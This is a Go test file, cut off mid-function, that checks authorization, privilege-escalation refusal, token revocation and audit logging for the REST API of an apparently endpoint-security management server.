package httpapi

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"

	"github.com/mamori/mamori/internal/auth"
	"github.com/mamori/mamori/internal/authz"
	"github.com/mamori/mamori/internal/errcode"
	"github.com/mamori/mamori/internal/password"
	"github.com/mamori/mamori/internal/store"
)

// world is a fixture with objects in All/Servers and principals with
// different rights.
type world struct {
	*fixture
	servers, laptops               string // group ids
	computer, detection, token, ps string // object ids, all in Servers
	dyn                            string // a dynamic group under Servers
	policy, assignment             string // a policy in Servers assigned to Servers
	task, trigger, run             string // a task in Servers, its trigger and a run on c-srv
	victim                         string // a user whose home is Servers
	cookies                        map[string]string
}

// asUser creates a user holding sets and a live session for them.
func (w *world) asUser(t *testing.T, name, home string, sets ...string) string {
	t.Helper()
	hash, _ := password.Hash("long enough password 1")
	u := &store.User{ID: uuid.NewString(), Username: name, PasswordHash: hash, HomeGroupID: home, PermissionSetIDs: sets}
	if err := w.db.CreateUser(t.Context(), u); err != nil {
		t.Fatal(err)
	}
	token := "session-of-" + name
	if err := w.db.CreateSession(t.Context(), &store.Session{TokenHash: auth.HashToken(token), UserID: u.ID, CreatedAt: w.now,
		ExpiresAt: w.now.Add(time.Hour), LastUsedAt: w.now, SecondFactor: true}); err != nil {
		t.Fatal(err)
	}
	return token
}

func (w *world) permSet(t *testing.T, name string, groups []string, level int) string {
	t.Helper()
	ps := &store.PermissionSet{ID: uuid.NewString(), Name: name, GroupID: store.GroupAll, Groups: groups, Grants: map[string]int{}}
	for _, f := range authz.All {
		ps.Grants[string(f)] = level
	}
	if err := w.db.CreatePermissionSet(t.Context(), ps); err != nil {
		t.Fatal(err)
	}
	return ps.ID
}

func newWorld(t *testing.T) *world {
	t.Helper()
	w := &world{fixture: newLoggedIn(t), cookies: map[string]string{}}
	srv := w.createGroup(t, "", "Servers")
	lap := w.createGroup(t, "", "Laptops")
	w.servers, w.laptops = srv.ID, lap.ID
	w.seed(t, computerSeed{id: "c-srv", name: "srv-01", group: "Servers"})
	w.computer = "c-srv"
	w.checkIn(t, &store.CheckIn{ComputerID: "c-srv", Now: w.now, Events: []store.Event{{ID: "det-srv", Type: store.DetectionEventType,
		OccurredAt: w.now, Data: `{"signature":"EICAR-Test-File","path":"/x"}`}}})
	w.detection = "det-srv"
	if err := w.db.AddTag(t.Context(), "c-srv", "prod"); err != nil {
		t.Fatal(err)
	}
	tok := decodeAs[tokenJSON](t, w.call(t, "POST", "/api/v1/enrollment-tokens", `{"group":"Servers","access_group":"Servers"}`), http.StatusCreated)
	w.token = tok.ID
	w.ps = w.permSet(t, "Servers operators", []string{w.servers}, 3)
	psObj, _ := w.db.PermissionSetByID(t.Context(), w.ps)
	psObj.GroupID = w.servers
	if err := w.db.UpdatePermissionSet(t.Context(), psObj); err != nil {
		t.Fatal(err)
	}
	hash, _ := password.Hash("long enough password 1")
	victim := &store.User{ID: uuid.NewString(), Username: "victim", PasswordHash: hash, HomeGroupID: w.servers}
	if err := w.db.CreateUser(t.Context(), victim); err != nil {
		t.Fatal(err)
	}
	w.victim = victim.ID
	dg := &store.DynamicGroup{ID: uuid.NewString(), Name: "nginx servers", StaticParentID: w.servers,
		Template: `{"op":"and","rules":[{"field":"software","operator":"=","value":"nginx"}]}`}
	if err := w.db.CreateDynamicGroup(t.Context(), dg); err != nil {
		t.Fatal(err)
	}
	w.dyn = dg.ID
	pol := &store.PolicyRow{ID: uuid.NewString(), Name: "Servers agent", Product: "agent", GroupID: w.servers,
		Settings: `{"log_level":{"flag":"apply","value":"debug"}}`}
	if err := w.db.CreatePolicy(t.Context(), pol); err != nil {
		t.Fatal(err)
	}
	as := &store.PolicyAssignment{ID: uuid.NewString(), PolicyID: pol.ID, TargetType: "static", TargetID: w.servers}
	if err := w.db.AssignPolicy(t.Context(), as); err != nil {
		t.Fatal(err)
	}
	w.policy, w.assignment = pol.ID, as.ID
	task := &store.TaskRow{ID: uuid.NewString(), Name: "Servers scan", Type: "scan", Params: `{"paths":["/srv"],"action":"report"}`, GroupID: w.servers}
	if err := w.db.CreateTask(t.Context(), task); err != nil {
		t.Fatal(err)
	}
	trig := &store.TriggerRow{ID: uuid.NewString(), TaskID: task.ID, Spec: `{"kind":"daily","at":"03:00"}`,
		Targets: `[{"type":"computer","id":"c-srv"}]`, Enabled: true, CreatedAt: w.now}
	if err := w.db.CreateTrigger(t.Context(), trig); err != nil {
		t.Fatal(err)
	}
	run := &store.TaskRun{ID: uuid.NewString(), TaskID: task.ID, TriggerID: trig.ID, ComputerID: "c-srv", Type: "scan", Params: task.Params,
		State: store.RunFailed, CreatedAt: w.now, NotBefore: w.now, ExpiresAt: w.now.Add(time.Hour)}
	if err := w.db.CreateRuns(t.Context(), []*store.TaskRun{run}); err != nil {
		t.Fatal(err)
	}
	w.task, w.trigger, w.run = task.ID, trig.ID, run.ID
	if err := os.WriteFile(filepath.Join(w.api.cfg.AttachmentDir, run.ID+".tar.gz"), []byte("bundle"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := w.db.SetRunAttachment(t.Context(), run.ID, run.ID+".tar.gz"); err != nil {
		t.Fatal(err)
	}
	w.cookies["nobody"] = w.asUser(t, "nobody", store.GroupAll)
	w.cookies["laptops-admin"] = w.asUser(t, "laptops-admin", w.laptops, w.permSet(t, "Laptops admins", []string{w.laptops}, 3))
	w.cookies["reviewer"] = w.asUser(t, "reviewer-user", store.GroupAll, store.PermSetReviewer)
	return w
}

// target gives each route a concrete path and a body aimed at the objects
// in Servers.
func (w *world) target(rt route) (path, body string) {
	path = rt.Pattern
	ids := map[string]string{
		"/api/v1/computers/":         w.computer,
		"/api/v1/detections/":        w.detection,
		"/api/v1/groups/":            w.servers,
		"/api/v1/enrollment-tokens/": w.token,
		"/api/v1/users/":             w.victim,
		"/api/v1/permission-sets/":   w.ps,
		"/api/v1/tokens/":            "no-such-token",
		"/api/v1/dynamic-groups/":    w.dyn,
		"/api/v1/policies/":          w.policy,
		"/api/v1/tasks/":             w.task,
		"/api/v1/task-runs/":         w.run,
	}
	for prefix, id := range ids {
		if strings.HasPrefix(path, prefix) {
			path = strings.Replace(path, "{id}", id, 1)
		}
	}
	path = strings.Replace(path, "{tag}", "prod", 1)
	path = strings.Replace(path, "{aid}", w.assignment, 1)
	path = strings.Replace(path, "{tid}", w.trigger, 1)
	bodies := map[string]string{
		"POST /api/v1/computers/wakeup":                 `{"group":"Servers"}`,
		"POST /api/v1/computers/{id}/move":              `{"group":"Servers","version":1}`,
		"POST /api/v1/computers/{id}/tags":              `{"tag":"new"}`,
		"POST /api/v1/groups":                           `{"parent":"Servers","name":"Sub"}`,
		"PATCH /api/v1/groups/{id}":                     `{"name":"Renamed","version":1}`,
		"POST /api/v1/groups/{id}/move":                 `{"parent":"All","version":1}`,
		"POST /api/v1/enrollment-tokens":                `{"group":"Servers","access_group":"Servers"}`,
		"POST /api/v1/users":                            `{"username":"new-user","password":"long enough password 2","home_group":"Servers"}`,
		"PATCH /api/v1/users/{id}":                      `{"description":"x","version":1}`,
		"POST /api/v1/users/{id}/password":              `{"password":"long enough password 3"}`,
		"POST /api/v1/permission-sets":                  `{"name":"s","group":"Servers","groups":["Servers"],"grants":{"computers":"read"}}`,
		"PATCH /api/v1/permission-sets/{id}":            `{"description":"x","version":2}`,
		"PUT /api/v1/settings/security":                 `{"min_password_length":14,"version":0}`,
		"POST /api/v1/dynamic-groups":                   `{"name":"d","parent":"Servers","template":{"op":"and","rules":[{"field":"tag","operator":"=","value":"x"}]}}`,
		"PATCH /api/v1/dynamic-groups/{id}":             `{"description":"x","version":1}`,
		"POST /api/v1/policies":                         `{"name":"p2","product":"agent","group":"Servers"}`,
		"PATCH /api/v1/policies/{id}":                   `{"description":"x","version":1}`,
		"POST /api/v1/policies/{id}/assignments":        `{"target_type":"static","target":"Servers","rank":1}`,
		"PATCH /api/v1/policies/{id}/assignments/{aid}": `{"rank":5,"version":1}`,
		"POST /api/v1/tasks":                            `{"name":"t2","type":"engine_update","group":"Servers"}`,
		"PATCH /api/v1/tasks/{id}":                      `{"description":"x","version":1}`,
		"POST /api/v1/tasks/{id}/run":                   `{"targets":[{"type":"computer","id":"c-srv"}]}`,
		"POST /api/v1/tasks/{id}/triggers":              `{"trigger":{"kind":"weekly","at":"04:00","weekdays":["sun"]},"targets":[{"type":"static_group","path":"Servers"}]}`,
		"PATCH /api/v1/tasks/{id}/triggers/{tid}":       `{"enabled":false,"version":1}`,
	}
	body = bodies[rt.Method+" "+rt.Pattern]
	if body == "" && (rt.Method == "POST" || rt.Method == "PATCH" || rt.Method == "PUT") {
		body = "{}"
	}
	if (rt.Pattern == "/api/v1/groups/{id}" || rt.Pattern == "/api/v1/dynamic-groups/{id}" || rt.Pattern == "/api/v1/policies/{id}" ||
		rt.Pattern == "/api/v1/tasks/{id}" || rt.Pattern == "/api/v1/policies/{id}/assignments/{aid}") && rt.Method == "DELETE" {
		path += "?version=1"
	}
	if rt.Pattern == "/api/v1/dynamic-groups/preview" {
		path += "?parent=Servers&template=" + url.QueryEscape(`{"op":"and","rules":[{"field":"tag","operator":"=","value":"x"}]}`)
	}
	return path, body
}

// selfRoutes act on the caller's own account: being logged in is enough.
var selfRoutes = map[string]bool{
	"GET /api/v1/session": true, "DELETE /api/v1/session": true, "POST /api/v1/session/totp": true,
	"POST /api/v1/session/totp/enroll": true, "POST /api/v1/session/totp/confirm": true, "POST /api/v1/session/password": true,
	"GET /api/v1/tokens": true, "POST /api/v1/tokens": true, "DELETE /api/v1/tokens/{id}": true,
}

// listRoutes answer with what the caller may see (possibly nothing).
var listRoutes = map[string]bool{
	"GET /api/v1/dynamic-groups": true, "GET /api/v1/dynamic-groups/fields": true,
	"GET /api/v1/policies": true, "GET /api/v1/policies/schema": true,
	"GET /api/v1/tasks": true, "GET /api/v1/tasks/types": true,
	"GET /api/v1/computers": true, "GET /api/v1/tags": true, "GET /api/v1/detections": true, "GET /api/v1/groups": true,
	"GET /api/v1/enrollment-tokens": true, "GET /api/v1/users": true, "GET /api/v1/permission-sets": true,
}

func TestAuthorization_EveryRouteRefusesWhoMayNot(t *testing.T) {
	w := newWorld(t)
	secrets := []string{w.computer, w.detection, w.token, w.ps, w.victim, "srv-01", "Servers operators"}
	for _, rt := range w.api.routes() {
		key := rt.Method + " " + rt.Pattern
		if rt.Audience == public || selfRoutes[key] {
			continue
		}
		path, body := w.target(rt)
		t.Run(key, func(t *testing.T) {
			for _, who := range []string{"nobody", "laptops-admin"} {
				rec := w.serve(t, request{method: rt.Method, path: path, body: body, cookie: w.cookies[who]})
				if listRoutes[key] {
					if rec.Code != http.StatusOK {
						t.Errorf("%s: list answered %d %s", who, rec.Code, rec.Body)
					}
					for _, s := range secrets {
						if strings.Contains(rec.Body.String(), s) {
							t.Errorf("%s: list leaks %q: %s", who, s, rec.Body)
						}
					}
					continue
				}
				if rec.Code != http.StatusForbidden && rec.Code != http.StatusNotFound {
					t.Errorf("%s: %d %s, want 403 or 404", who, rec.Code, rec.Body)
				}
			}
			// The reviewer reads everything and changes nothing.
			rec := w.serve(t, request{method: rt.Method, path: path, body: body, cookie: w.cookies["reviewer"]})
			if rt.Method == "GET" {
				if rec.Code != http.StatusOK {
					t.Errorf("reviewer: read answered %d %s", rec.Code, rec.Body)
				}
			} else if rec.Code != http.StatusForbidden {
				t.Errorf("reviewer: write answered %d %s, want 403", rec.Code, rec.Body)
			}
		})
	}
	// The administrator is not refused (after everyone else: their writes
	// change the world; a 404 after an earlier delete is fine).
	for _, rt := range w.api.routes() {
		if rt.Audience == public || selfRoutes[rt.Method+" "+rt.Pattern] {
			continue
		}
		path, body := w.target(rt)
		rec := w.call(t, rt.Method, path, body)
		if rec.Code == http.StatusForbidden || rec.Code == http.StatusUnauthorized || rec.Code == http.StatusInternalServerError {
			t.Errorf("administrator: %s %s: %d %s", rt.Method, path, rec.Code, rec.Body)
		}
	}
}

func TestAuthorization_LaptopsAdminCanActInLaptops(t *testing.T) {
	w := newWorld(t)
	c := w.cookies["laptops-admin"]
	rec := w.serve(t, request{method: "POST", path: "/api/v1/groups", body: `{"parent":"Laptops","name":"Floor 2"}`, cookie: c})
	if rec.Code != http.StatusCreated {
		t.Fatalf("create group in Laptops: %d %s", rec.Code, rec.Body)
	}
	// Moving a group of theirs under Servers (which they cannot write) is refused.
	g := decodeAs[groupJSON](t, rec, http.StatusCreated)
	rec = w.serve(t, request{method: "POST", path: "/api/v1/groups/" + g.ID + "/move", body: `{"parent":"Servers","version":1}`, cookie: c})
	wantError(t, rec, http.StatusNotFound, errcode.NotFound) // they cannot even see Servers
	rec = w.serve(t, request{method: "POST", path: "/api/v1/groups/" + g.ID + "/move", body: `{"parent":"All","version":1}`, cookie: c})
	wantError(t, rec, http.StatusForbidden, errcode.Forbidden) // All is known to all; writing there is not allowed
	// Users created in Laptops with a set they cover.
	rec = w.serve(t, request{method: "POST", path: "/api/v1/users", body: `{"username":"lap-user","password":"long enough password 9"}`, cookie: c})
	if rec.Code != http.StatusCreated {
		t.Fatalf("create user at home: %d %s", rec.Code, rec.Body)
	}
	if u := decodeAs[userJSON](t, rec, http.StatusCreated); u.HomeGroup.ID != w.laptops {
		t.Fatalf("new user's home %+v, want the creator's home Laptops", u.HomeGroup)
	}
}

func TestAuthorization_NobodyHandsOutMoreThanTheyHold(t *testing.T) {
	w := newWorld(t)
	c := w.cookies["laptops-admin"]
	// A set granting on All is wider than Laptops.
	rec := w.serve(t, request{method: "POST", path: "/api/v1/permission-sets", body: `{"name":"grab","group":"Laptops","groups":["All"],"grants":{"computers":"read"}}`, cookie: c})
	wantError(t, rec, http.StatusForbidden, errcode.Forbidden)
	// The built-in Administrator set cannot be assigned by them.
	rec = w.serve(t, request{method: "POST", path: "/api/v1/users", body: `{"username":"mole","password":"long enough password 7","permission_sets":["administrator"]}`, cookie: c})
	if rec.Code != http.StatusForbidden && rec.Code != http.StatusNotFound {
		t.Fatalf("assigning Administrator: %d %s", rec.Code, rec.Body)
	}
	// Nobody changes their own permission sets.
	me := decodeAs[sessionResponse](t, w.call(t, "GET", "/api/v1/session", ""), http.StatusOK)
	u := decodeAs[userJSON](t, w.call(t, "GET", "/api/v1/users/"+me.User.ID, ""), http.StatusOK)
	rec = w.call(t, "PATCH", "/api/v1/users/"+me.User.ID, fmt.Sprintf(`{"permission_sets":["reviewer"],"version":%d}`, u.Version))
	wantError(t, rec, http.StatusForbidden, errcode.Forbidden)
	rec = w.call(t, "PATCH", "/api/v1/users/"+me.User.ID, fmt.Sprintf(`{"disabled":true,"version":%d}`, u.Version))
	wantError(t, rec, http.StatusForbidden, errcode.Forbidden)
}

func TestAuthorization_BackstopFailsAHandlerThatNeverChecked(t *testing.T) {
	w := newWorld(t)
	forgetful := route{Method: "GET", Pattern: "/api/v1/forgetful", Audience: user, Handler: func(rw http.ResponseWriter, r *http.Request) error {
		writeJSON(rw, http.StatusOK, map[string]string{"secret": "leaked"})
		return nil
	}}
	rec := httptest.NewRecorder()
	req := httptest.NewRequest("GET", "/api/v1/forgetful", nil)
	req.AddCookie(&http.Cookie{Name: SessionCookie, Value: w.cookie})
	w.api.wrap(forgetful).ServeHTTP(rec, req)
	if rec.Code != http.StatusInternalServerError || strings.Contains(rec.Body.String(), "leaked") {
		t.Fatalf("backstop let through %d %s", rec.Code, rec.Body)
	}
}

func auditCount(t *testing.T, f *fixture) int {
	t.Helper()
	_, n, err := f.db.ListAudit(t.Context(), store.AuditFilter{})
	if err != nil {
		t.Fatal(err)
	}
	return n
}

func TestAudit_EveryWriteRouteLeavesExactlyOneRecord(t *testing.T) {
	w := newWorld(t)
	for _, rt := range w.api.routes() {
		key := rt.Method + " " + rt.Pattern
		mutating := rt.Method != "GET" && rt.Method != "HEAD"
		if mutating != (rt.Audit != "") {
			t.Errorf("%s: mutating=%v but audit %q", key, mutating, rt.Audit)
			continue
		}
		if !mutating {
			continue
		}
		path, body := w.target(rt)
		for _, who := range []string{"reviewer", "admin"} {
			cookie := w.cookies[who]
			if who == "admin" {
				cookie = w.cookie
			}
			if key == "DELETE /api/v1/session" || key == "POST /api/v1/session/password" {
				cookie = w.asUser(t, fmt.Sprintf("throwaway-%d", time.Now().UnixNano()), store.GroupAll) // ends its session
			}
			before := auditCount(t, w.fixture)
			rec := w.serve(t, request{method: rt.Method, path: path, body: body, cookie: cookie})
			after := auditCount(t, w.fixture)
			if after-before != 1 {
				t.Errorf("%s as %s (%d): %d audit records, want exactly 1", key, who, rec.Code, after-before)
				continue
			}
			es, _, _ := w.db.ListAudit(t.Context(), store.AuditFilter{Limit: 1})
			e := es[0]
			wantDomain, wantAction, _ := strings.Cut(rt.Audit, ".")
			wantResult := store.AuditSuccess
			if rec.Code >= 400 {
				wantResult = store.AuditFailure
			}
			if e.Domain != wantDomain || e.Action != wantAction || e.Result != wantResult || e.RemoteAddr == "" || e.At.IsZero() {
				t.Errorf("%s as %s: record %+v (status %d)", key, who, e, rec.Code)
			}
			if key != "POST /api/v1/session" && e.Username == "" {
				t.Errorf("%s as %s: record names nobody", key, who)
			}
		}
	}
}

func TestAudit_RecordsWhoWhatAndTheDiff(t *testing.T) {
	w := newWorld(t)
	g := decodeAs[groupJSON](t, w.call(t, "GET", "/api/v1/groups/"+w.servers, ""), http.StatusOK)
	w.call(t, "PATCH", "/api/v1/groups/"+w.servers, fmt.Sprintf(`{"name":"Servers-2","version":%d}`, g.Version))
	es, _, _ := w.db.ListAudit(t.Context(), store.AuditFilter{Domain: "groups", Action: "rename"})
	if len(es) != 1 || es[0].Username != testUser || es[0].ObjectID != w.servers || es[0].Diff != `{"name":["Servers","Servers-2"]}` {
		t.Fatalf("rename record %+v", es)
	}
	// Failed logins are recorded with the attempted name.
	w.serve(t, request{method: "POST", path: "/api/v1/session", body: loginBody("mallory", "nope")})
	es, _, _ = w.db.ListAudit(t.Context(), store.AuditFilter{Domain: "session", Result: store.AuditFailure})
	if len(es) == 0 || es[0].Username != "mallory" || es[0].Detail == "" {
		t.Fatalf("failed login record %+v", es)
	}
	// Reading: filters and CSV export; nothing deletes entries.
	list := decodeAs[listResponse[auditJSON]](t, w.call(t, "GET", "/api/v1/audit?domain=groups&action=rename", ""), http.StatusOK)
	if list.Total != 1 || list.Items[0].ObjectName == "" {
		t.Fatalf("audit list %+v", list)
	}
	rec := w.call(t, "GET", "/api/v1/audit/export?user="+testUser, "")
	if rec.Code != 200 || !strings.HasPrefix(rec.Header().Get("Content-Type"), "text/csv") || !strings.Contains(rec.Body.String(), "groups,rename") {
		t.Fatalf("CSV export %d %s: %s", rec.Code, rec.Header().Get("Content-Type"), rec.Body)
	}
	for _, q := range []string{"since=yesterday", "result=maybe", "limit=0"} {
		wantError(t, w.call(t, "GET", "/api/v1/audit?"+q, ""), http.StatusBadRequest, errcode.Invalid)
	}
	for _, m := range []string{"DELETE", "PUT", "POST", "PATCH"} {
		if rec := w.call(t, m, "/api/v1/audit", "{}"); rec.Code != http.StatusMethodNotAllowed {
			t.Errorf("%s /api/v1/audit: %d", m, rec.Code)
		}
	}
}

// A policy's assignments name only the targets the caller may read: a
// Laptops administrator reading a Laptops policy that is also assigned to
// Servers sees those assignments, by id, without their names.
func TestAssignments_NameOnlyTheTargetsTheCallerMayRead(t *testing.T) {
	w := newWorld(t)
	pol := &store.PolicyRow{ID: uuid.NewString(), Name: "Laptops agent", Product: "agent", GroupID: w.laptops,
		Settings: `{"log_level":{"flag":"apply","value":"debug"}}`}
	if err := w.db.CreatePolicy(t.Context(), pol); err != nil {
		t.Fatal(err)
	}
	targets := map[string]string{w.laptops: "static", w.servers: "static", w.dyn: "dynamic", w.computer: "computer"}
	for id, typ := range targets {
		if err := w.db.AssignPolicy(t.Context(), &store.PolicyAssignment{ID: uuid.NewString(), PolicyID: pol.ID, TargetType: typ, TargetID: id}); err != nil {
			t.Fatal(err)
		}
	}
	path := "/api/v1/policies/" + pol.ID + "/assignments"
	names := func(rec *httptest.ResponseRecorder) map[string]string {
		t.Helper()
		l := decodeAs[listResponse[assignmentJSON]](t, rec, http.StatusOK)
		if l.Total != len(targets) || len(l.Items) != len(targets) {
			t.Fatalf("%d assignments (total %d), want %d", len(l.Items), l.Total, len(targets))
		}
		out := map[string]string{}
		for _, a := range l.Items {
			out[a.Target.ID] = a.Target.Path
		}
		return out
	}
	admin := names(w.call(t, "GET", path, ""))
	for id := range targets {
		if admin[id] == "" {
			t.Errorf("the administrator sees no name for target %s (%s): %v", id, targets[id], admin)
		}
	}
	lap := names(w.serve(t, request{method: "GET", path: path, cookie: w.cookies["laptops-admin"]}))
	want := map[string]string{w.laptops: admin[w.laptops], w.servers: "", w.dyn: "", w.computer: ""}
	for id, name := range want {
		if got, ok := lap[id]; !ok || got != name {
			t.Errorf("laptops-admin sees target %s (%s) as %q (listed %v), want %q", id, targets[id], got, ok, name)
		}
	}
	// Nobody else reads the policy at all.
	wantError(t, w.serve(t, request{method: "GET", path: path, cookie: w.cookies["nobody"]}), http.StatusNotFound, errcode.NotFound)
}

// A task's runs list counts and pages only the runs the caller may see:
// runs on computers outside its reach are neither listed nor counted, on
// any page.
func TestRuns_TotalAndPagesCountOnlyVisibleRuns(t *testing.T) {
	w := newWorld(t)
	w.seed(t, computerSeed{id: "c-lap", name: "lap-01", group: "Laptops"})
	task := &store.TaskRow{ID: uuid.NewString(), Name: "Everyone scan", Type: "scan", Params: `{"paths":["/"],"action":"report"}`, GroupID: store.GroupAll}
	if err := w.db.CreateTask(t.Context(), task); err != nil {
		t.Fatal(err)
	}
	var runs []*store.TaskRun
	for i, c := range []string{"c-srv", "c-lap", "c-srv", "c-lap", "c-srv", "c-lap", "c-srv"} {
		at := w.now.Add(time.Duration(i) * time.Minute)
		runs = append(runs, &store.TaskRun{ID: uuid.NewString(), TaskID: task.ID, ComputerID: c, Type: "scan", Params: task.Params,
			State: store.RunSucceeded, CreatedAt: at, NotBefore: at, ExpiresAt: at.Add(time.Hour)})
	}
	if err := w.db.CreateRuns(t.Context(), runs); err != nil {
		t.Fatal(err)
	}
	tasksEverywhere := &store.PermissionSet{ID: uuid.NewString(), Name: "Read tasks", GroupID: store.GroupAll, Groups: []string{store.GroupAll},
		Grants: map[string]int{string(authz.Tasks): int(authz.Read)}}
	laptopsOnly := &store.PermissionSet{ID: uuid.NewString(), Name: "Read laptops", GroupID: store.GroupAll, Groups: []string{w.laptops},
		Grants: map[string]int{string(authz.Computers): int(authz.Read)}}
	for _, ps := range []*store.PermissionSet{tasksEverywhere, laptopsOnly} {
		if err := w.db.CreatePermissionSet(t.Context(), ps); err != nil {
			t.Fatal(err)
		}
	}
	cookie := w.asUser(t, "laptop-watcher", store.GroupAll, tasksEverywhere.ID, laptopsOnly.ID)
	get := func(query string) listResponse[runJSON] {
		t.Helper()
		return decodeAs[listResponse[runJSON]](t, w.serve(t, request{method: "GET", path: "/api/v1/tasks/" + task.ID + "/runs" + query, cookie: cookie}), http.StatusOK)
	}
	seen := map[string]bool{}
	for _, q := range []string{"?limit=2", "?limit=2&offset=2"} {
		page := get(q)
		if page.Total != 3 {
			t.Errorf("%s: total %d, want the 3 runs on the laptop", q, page.Total)
		}
		for _, r := range page.Items {
			if r.Computer == nil || r.Computer.ID != "c-lap" {
				t.Errorf("%s: lists a run on %+v", q, r.Computer)
			}
			seen[r.ID] = true
		}
	}
	if len(seen) != 3 {
		t.Errorf("the two pages hold %d distinct runs, want 3", len(seen))
	}
	if all := decodeAs[listResponse[runJSON]](t, w.call(t, "GET", "/api/v1/tasks/"+task.ID+"/runs", ""), http.StatusOK); all.Total != 7 || len(all.Items) != 7 {
		t.Errorf("the administrator sees %d runs (total %d), want 7", len(all.Items), all.Total)
	}
	// The runs of one computer, through the computer: the same rule.
	lap := decodeAs[listResponse[runJSON]](t, w.serve(t, request{method: "GET", path: "/api/v1/computers/c-lap/task-runs", cookie: cookie}), http.StatusOK)
	if lap.Total != 3 || len(lap.Items) != 3 {
		t.Errorf("runs of c-lap: %d (total %d), want 3", len(lap.Items), lap.Total)
	}
}

// users:write is not a way into a more powerful account: resetting the
// password, removing the second factor, disabling or deleting a user needs
// every right the user's permission sets grant. A user the caller covers
// stays theirs to manage.
func TestAuthorization_UsersWriteDoesNotTakeOverAStrongerAccount(t *testing.T) {
	w := newWorld(t)
	ps := &store.PermissionSet{ID: uuid.NewString(), Name: "Helpdesk", GroupID: store.GroupAll, Groups: []string{store.GroupAll},
		Grants: map[string]int{string(authz.Users): int(authz.Write)}}
	if err := w.db.CreatePermissionSet(t.Context(), ps); err != nil {
		t.Fatal(err)
	}
	helpdesk := w.asUser(t, "helpdesk", store.GroupAll, ps.ID)
	boss := &store.User{ID: uuid.NewString(), Username: "boss", PasswordHash: "x", HomeGroupID: store.GroupAll, PermissionSetIDs: []string{store.PermSetAdministrator}}
	if err := w.db.CreateUser(t.Context(), boss); err != nil {
		t.Fatal(err)
	}
	boss.TOTPRequired = true
	if err := w.db.UpdateUser(t.Context(), boss); err != nil {
		t.Fatal(err)
	}
	admin := decodeAs[userJSON](t, w.call(t, "GET", "/api/v1/users/"+testUserID, ""), http.StatusOK)
	for _, rq := range []request{
		{method: "PATCH", path: "/api/v1/users/" + boss.ID, body: fmt.Sprintf(`{"totp_required":false,"version":%d}`, boss.Version)},
		{method: "POST", path: "/api/v1/users/" + testUserID + "/password", body: `{"password":"helpdesk owns this one","must_change":false}`},
		{method: "DELETE", path: "/api/v1/users/" + testUserID + "/totp"},
		{method: "PATCH", path: "/api/v1/users/" + testUserID, body: fmt.Sprintf(`{"disabled":true,"version":%d}`, admin.Version)},
		{method: "DELETE", path: fmt.Sprintf("/api/v1/users/%s?version=%d", testUserID, admin.Version)},
		{method: "PATCH", path: "/api/v1/users/" + testUserID, body: fmt.Sprintf(`{"unlock":true,"version":%d}`, admin.Version)},
	} {
		rq.cookie = helpdesk
		if msg := wantError(t, w.serve(t, rq), http.StatusForbidden, errcode.Forbidden); !strings.Contains(msg, "grants more than you hold") {
			t.Errorf("%s %s refused with %q", rq.method, rq.path, msg)
		}
	}
	if rec := w.serve(t, request{method: "POST", path: "/api/v1/session", body: loginBody(testUser, testPassword)}); rec.Code != http.StatusOK {
		t.Fatalf("the administrator's own password no longer works: %d %s", rec.Code, rec.Body)
	}
	if u := decodeAs[userJSON](t, w.call(t, "GET", "/api/v1/users/"+testUserID, ""), http.StatusOK); u.Disabled || u.Version != admin.Version {
		t.Fatalf("the administrator changed: %+v", u)
	}
	// The victim holds no set: the helpdesk may reset their password.
	rec := w.serve(t, request{method: "POST", path: "/api/v1/users/" + w.victim + "/password", body: `{"password":"a fresh password 42"}`, cookie: helpdesk})
	if rec.Code != http.StatusNoContent {
		t.Fatalf("resetting a covered user's password: %d %s", rec.Code, rec.Body)
	}
}

// An administrator's password reset ends the user's sessions and revokes
// their API tokens: a token minted with a stolen session dies with it.
func TestUsers_PasswordResetRevokesTheUsersAPITokens(t *testing.T) {
	w := newWorld(t)
	rv := w.cookies["reviewer"]
	tok := decodeAs[apiTokenJSON](t, w.serve(t, request{method: "POST", path: "/api/v1/tokens", body: `{"name":"stolen","ttl":"720h"}`, cookie: rv}), http.StatusCreated)
	if rec := w.serveBearer(t, request{method: "GET", path: "/api/v1/computers"}, tok.Token); rec.Code != http.StatusOK {
		t.Fatalf("token before the reset: %d %s", rec.Code, rec.Body)
	}
	var reviewer string
	for _, u := range decodeAs[struct{ Items []userJSON }](t, w.call(t, "GET", "/api/v1/users?name=reviewer-user", ""), http.StatusOK).Items {
		reviewer = u.ID
	}
	if rec := w.call(t, "POST", "/api/v1/users/"+reviewer+"/password", `{"password":"a fresh password 42"}`); rec.Code != http.StatusNoContent {
		t.Fatalf("reset: %d %s", rec.Code, rec.Body)
	}
	wantError(t, w.serveBearer(t, request{method: "GET", path: "/api/v1/computers"}, tok.Token), http.StatusUnauthorized, errcode.Unauthorized)
	wantError(t, w.serve(t, request{method: "GET", path: "/api/v1/computers", cookie: rv}), http.StatusUnauthorized, errcode.Unauthorized)
}

// Moving a group carries its computers, users, tokens, policies and tasks:
// it needs write on each at both ends, and must not give the caller at the
// destination a right they lack where the group is.
func TestAuthorization_MovingAGroupDoesNotWidenWhatTheCallerReaches(t *testing.T) {
	w := newWorld(t)
	grants := func(name string, groups []string, g map[authz.Functionality]authz.Level) string {
		ps := &store.PermissionSet{ID: uuid.NewString(), Name: name, GroupID: store.GroupAll, Groups: groups, Grants: map[string]int{}}
		for f, l := range g {
			ps.Grants[string(f)] = int(l)
		}
		if err := w.db.CreatePermissionSet(t.Context(), ps); err != nil {
			t.Fatal(err)
		}
		return ps.ID
	}
	servers := decodeAs[groupJSON](t, w.call(t, "GET", "/api/v1/groups/"+w.servers, ""), http.StatusOK)
	move := func(cookie string) *httptest.ResponseRecorder {
		return w.serve(t, request{method: "POST", path: "/api/v1/groups/" + w.servers + "/move",
			body: fmt.Sprintf(`{"parent":"All/Laptops","version":%d}`, servers.Version), cookie: cookie})
	}
	// Groups everywhere, computers only in Laptops: Servers' computers would become theirs.
	grouper := w.asUser(t, "grouper", store.GroupAll,
		grants("groups", []string{store.GroupAll}, map[authz.Functionality]authz.Level{authz.Groups: authz.Write}),
		grants("laptops", []string{w.laptops}, map[authz.Functionality]authz.Level{authz.Computers: authz.Write}))
	wantError(t, move(grouper), http.StatusForbidden, errcode.Forbidden)
	wantError(t, w.serve(t, request{method: "GET", path: "/api/v1/computers/c-srv", cookie: grouper}), http.StatusNotFound, errcode.NotFound)

	// Write on every carried area everywhere, detections only in Laptops.
	carriers := map[authz.Functionality]authz.Level{}
	for _, f := range carried {
		carriers[f] = authz.Write
	}
